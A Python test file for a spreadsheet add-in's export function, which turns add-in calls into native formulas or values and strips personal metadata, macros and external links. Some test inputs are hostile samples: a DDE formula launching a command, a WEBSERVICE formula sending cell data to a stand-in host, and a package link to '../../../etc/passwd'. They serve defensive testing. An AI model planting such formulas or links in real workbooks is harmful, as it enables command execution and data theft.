"""A workbook leaves the office with native formulas and values, and nothing else of ours."""

from io import BytesIO
from pathlib import Path
from time import process_time

import pytest
import xlsxwriter

from addin.cells import CellFormula
from addin.errors import FileError, Level
from addin.functions.workbooks.freezing import freeze, natives
from addin.ooxml.package import open_package
from addin.ooxml.sheet.editing.workbook import open_workbook
from addin.ooxml.sheet.leaving.inspecting import scan
from addin.ooxml.sheet.references.calls import (
    Own,
    foreign_functions,
    names_outside,
    replace_calls,
)

_CAGR = natives()["CAGR"]("A1", "B1", "C1")


@pytest.fixture
def book(tmp_path: Path) -> Path:
    """A workbook that calls functions in every host's spelling and names people."""
    path = tmp_path / "office.xlsx"
    with xlsxwriter.Workbook(str(path)) as made:
        made.set_properties({"author": "Li Lei", "company": "Bureau", "manager": "Han Meimei"})
        sheet = made.add_worksheet("Data")
        sheet.write_row("A1", [2200, 2943, 5])
        sheet.write_formula("A2", "=PLAN.CAGR(A1,B1,C1)", None, 0.05992)
        sheet.write_formula("A3", "=PLAN_CAGR(A1,B1,C1+0)*100", None, 5.992)
        sheet.write_dynamic_array_formula("A4", "=_xldudf_PLAN_CAGR(A1,B1,C1)", None, 0.05992)
        sheet.write_formula("A5", '=PLAN.STATUS(A1,B1)&"x"', None, "on track")
        sheet.write_formula("A6", "=MYMACRO(A1)+1", None, 7)
        sheet.write_formula("A7", "=SUM(A1:C1)", None, 5148)
        sheet.write_formula("A8", "=PLAN.GAP(PLAN.GAP(A1,B1),SUM(A1,B1))", None, 4400)
        sheet.write_formula("A9", "='[other.xlsx]Sheet1'!A1*2", None, 12.5)
        sheet.write_comment("B2", "checked", {"author": "Li Lei"})
        sheet.write_url("D1", "external:C:\\Users\\lilei\\notes.xlsx", None, "notes")
        sheet.write_url("D2", "https://example.org/")
        hidden = made.add_worksheet("Old")
        hidden.hide()
    return path


def test_every_spelling_becomes_the_native_formula(book: Path, tmp_path: Path) -> None:
    freeze(book, tmp_path / "out.xlsx")

    after = open_workbook(tmp_path / "out.xlsx")
    gap = natives()["GAP"]
    assert after.value("Data", "A2") == CellFormula(_CAGR, 0.05992)
    assert after.value("Data", "A3") == CellFormula(f"({_CAGR.replace('C1', '(C1+0)')})*100", 5.992)
    assert after.value("Data", "A4") == CellFormula(_CAGR, 0.05992)
    assert after.value("Data", "A8") == CellFormula(
        gap(f"(({gap('A1', 'B1')}))", "SUM(A1,B1)"), 4400
    )


def test_what_has_no_native_form_becomes_its_value(book: Path, tmp_path: Path) -> None:
    freeze(book, tmp_path / "out.xlsx")

    after = open_workbook(tmp_path / "out.xlsx")
    assert [after.value("Data", f"A{n}") for n in (5, 6, 9)] == ["on track", 7, 12.5]
    assert after.value("Data", "A7") == CellFormula("SUM(A1:C1)", 5148)


def test_a_sheet_says_where_each_cell_came_from(book: Path, tmp_path: Path) -> None:
    report = freeze(book, tmp_path / "out.xlsx")

    after = open_workbook(tmp_path / "out.xlsx")
    origin = after.sheet_names[-1]
    assert after.value(origin, "B2") == "A2"
    assert after.value(origin, "D2") == "=PLAN.CAGR(A1,B1,C1)"
    assert len(report.cells) == 7
    assert sum(cell.kept_live for cell in report.cells) == 4


def test_the_scan_proves_that_nothing_of_the_office_leaves(book: Path, tmp_path: Path) -> None:
    report = freeze(book, tmp_path / "out.xlsx")

    package = open_package(tmp_path / "out.xlsx")
    everything = b"".join(package[name] for name in package.names)
    assert report.scan.is_clean
    assert not scan(book).is_clean
    for word in (b"Li Lei", b"Bureau", b"Han Meimei", b"lilei"):
        assert word not in everything
    assert b"https://example.org/" in everything
    assert "F-21" in report.show("zh")
    assert "functions of add-ins: 0" in report.show("en")


def test_a_hidden_sheet_is_for_a_person_to_decide(book: Path, tmp_path: Path) -> None:
    report = freeze(book, tmp_path / "out.xlsx")

    assert [(f.rule, f.level, f.place.sheet) for f in report.scan.findings] == [
        ("F-25", Level.SOFT, "Old")
    ]


def test_macros_leave_with_their_buttons(tmp_path: Path) -> None:
    stream = BytesIO()
    with xlsxwriter.Workbook(stream) as made:
        sheet = made.add_worksheet("Data")
        sheet.insert_button("B2", {"macro": "run"})
        sheet.write("A1", 1)
    package = open_package(stream.getvalue())
    types = package["[Content_Types].xml"].decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ).replace(
        "</Types>",
        '<Override PartName="/xl/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    rels = package["xl/_rels/workbook.xml.rels"].decode()
    link = (
        '<Relationship Id="rIdVba" Target="vbaProject.bin" '
        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
    )
    source = tmp_path / "macro.xlsm"
    source.write_bytes(
        package.with_parts(
            {
                "[Content_Types].xml": types.encode(),
                "xl/_rels/workbook.xml.rels": rels.replace(
                    "</Relationships>", link + "</Relationships>"
                ).encode(),
                "xl/vbaProject.bin": b"x",
            }
        ).to_bytes()
    )

    report = freeze(source, tmp_path / "out.xlsx")

    after = open_package(tmp_path / "out.xlsx")
    assert report.scan.is_clean
    assert "xl/vbaProject.bin" not in after
    assert b"macroEnabled" not in after["[Content_Types].xml"]
    assert b"FmlaMacro" not in after["xl/drawings/vmlDrawing1.vml"]


def test_a_cell_without_a_value_is_refused_by_its_name(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    with xlsxwriter.Workbook(str(path)) as made:
        made.add_worksheet("Data").write_formula("B3", "=PLAN.STATUS(A1,A2)", None, "")

    with pytest.raises(FileError, match="Data!B3"):
        freeze(path, tmp_path / "out.xlsx")

    assert not (tmp_path / "out.xlsx").exists()


def test_other_functions_can_be_given_a_plain_form(book: Path, tmp_path: Path) -> None:
    freeze(book, tmp_path / "out.xlsx", {**natives(), "STATUS": lambda a, b: f"IF({a}<{b},1,0)"})

    after = open_workbook(tmp_path / "out.xlsx")
    assert after.value("Data", "A5") == CellFormula('(IF(A1<B1,1,0))&"x"', "on track")


def test_native_functions_are_not_taken_for_foreign_ones() -> None:
    formula = 'IF(_xlfn.XLOOKUP(1,T[a (b)],"PLAN.X(1)")>0,SUMIFS(A:A,B:B,1),PLAN.GAP(1,2))'

    assert foreign_functions(formula, Own()) == ("PLAN.GAP",)


def test_a_call_is_replaced_with_its_arguments_whole() -> None:
    def replace(name: str, arguments: tuple[str, ...]) -> str | None:
        return "|".join(arguments) if name == "F" else f"{name}({','.join(arguments)})"

    formula = 'F("a,b",{1,2},F(1,(A1,B2)))+SUM(1,2)'

    assert replace_calls(formula, replace) == '("a,b"|{1,2}|(1|(A1,B2)))+SUM(1,2)'


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c calc'!A0",
        "'cmd|x'!A0+1",
        '_xlfn.WEBSERVICE("http://x.org/?"&A1)',
        'IF(A1>0,_xlfn.IMAGE("http://x.org/a.png"),1)',
        'HYPERLINK("http://x.org/?q="&A1,"more")',
        'HYPERLINK(A1,"more")',
        'hyperlink ("file://server/a.xlsx")',
        '_xlfn.STOCKHISTORY("MSFT",1)',
        'CUBEVALUE("ThisWorkbookDataModel","[Measures].[x]")',
        "_xlfn._xlws.PY(0,1)",
        '_xlfn.TRANSLATE(A1,"en")',
        "rate*2",
        "[1]!total",
        "Data!A1+[2]Data!B1",
    ],
)
def test_no_live_call_leaves_the_office(tmp_path: Path, formula: str) -> None:
    path = tmp_path / "in.xlsx"
    with xlsxwriter.Workbook(str(path)) as made:
        sheet = made.add_worksheet("Data")
        made.define_name("address", '=_xlfn.WEBSERVICE("http://x.org")')
        made.define_name("rate", "=address+1")
        sheet.write_formula("B1", f"={formula}", None, 7)

    freeze(path, tmp_path / "out.xlsx")

    assert open_workbook(tmp_path / "out.xlsx").value("Data", "B1") == 7
    assert scan(tmp_path / "out.xlsx").is_clean
    assert not scan(path).is_clean


@pytest.mark.parametrize(
    "formula",
    [
        'HYPERLINK("#Data!A1","top")',
        'HYPERLINK("#"&A1)',
        'HYPERLINK("https://example.org/","home")',
        "'a|b'!A1&\"a|b\"",
        "T[a|b]",
        '"[1]!x [2]y"',
    ],
)
def test_what_only_looks_like_a_call_to_outside_stays_live(tmp_path: Path, formula: str) -> None:
    path = tmp_path / "in.xlsx"
    with xlsxwriter.Workbook(str(path)) as made:
        made.add_worksheet("Data").write_formula("B1", f"={formula}", None, 7)
        made.add_worksheet("a|b")

    freeze(path, tmp_path / "out.xlsx")

    assert open_workbook(tmp_path / "out.xlsx").value("Data", "B1") == CellFormula(formula, 7)


def _with_links(path: Path, part: str, links: bytes) -> None:
    package = open_package(path)
    rels = package[part].replace(b"</Relationships>", links + b"</Relationships>")
    path.write_bytes(package.with_parts({part: rels}).to_bytes())


def test_a_linked_picture_and_a_link_out_of_the_file_are_cut(tmp_path: Path) -> None:
    path = tmp_path / "in.xlsx"
    with xlsxwriter.Workbook(str(path)) as made:
        sheet = made.add_worksheet("Data")
        sheet.insert_image("A1", "x.png", {"image_data": BytesIO(_PNG)})
        sheet.write("B9", 1)
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    drawing = open_package(path)
    name = "xl/drawings/drawing1.xml"
    linked = drawing[name].replace(b"r:embed=", b"r:link=")
    path.write_bytes(drawing.with_parts({name: linked}).to_bytes())
    rels = drawing["xl/drawings/_rels/drawing1.xml.rels"]
    outside = rels.replace(b"../media/image1.png", b'file:///s/x.png" TargetMode="External')
    path.write_bytes(
        open_package(path).with_parts({"xl/drawings/_rels/drawing1.xml.rels": outside}).to_bytes()
    )
    _with_links(
        path,
        "xl/_rels/workbook.xml.rels",
        b'<Relationship Id="rId99" Type="%s/theme" Target="../../../etc/passwd"/>' % kind,
    )

    report = freeze(path, tmp_path / "out.xlsx")

    after = open_package(tmp_path / "out.xlsx")
    assert [found.rule for found in report.removed].count("F-19") == 2
    assert b"blip" not in after[name]
    assert b"etc/passwd" not in after["xl/_rels/workbook.xml.rels"]
    assert open_workbook(tmp_path / "out.xlsx").value("Data", "B9") == 1


_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63"
    "6460f85f0f0002870180eb47ba920000000049454e44ae426082"
)


@pytest.mark.parametrize(
    "formula",
    [
        "A" * 30_000,
        "?" * 30_000,
        "[" * 30_000,
        "'" * 30_001,
        '"' * 30_001,
        "{" * 30_000,
        "A1," * 10_000,
        "[a[" * 10_000,
        "A:" * 15_000,
        "(" * 30_000,
    ],
    ids=lambda formula: formula[:3],
)
def test_a_formula_that_no_program_wrote_is_read_in_one_pass(formula: str) -> None:
    started = process_time()

    foreign_functions(formula, Own())
    names_outside(f"{formula}[|", Own())
    replace_calls(formula, lambda _, __: "")

    assert process_time() - started < 1.5


def test_a_native_formula_without_a_value_gets_one(tmp_path: Path) -> None:
    path = tmp_path / "office.xlsx"
    with xlsxwriter.Workbook(str(path)) as made:
        sheet = made.add_worksheet("Data")
        sheet.write_row("A1", [2200, 2943, 5])
        sheet.write_formula("A2", "=PLAN.CAGR(A1,B1,C1)", None, "")

    freeze(path, tmp_path / "out.xlsx")

    shown = open_workbook(tmp_path / "out.xlsx").value("Data", "A2")
    assert isinstance(shown, CellFormula)
    assert shown.value == pytest.approx((2943 / 2200) ** 0.2 - 1)
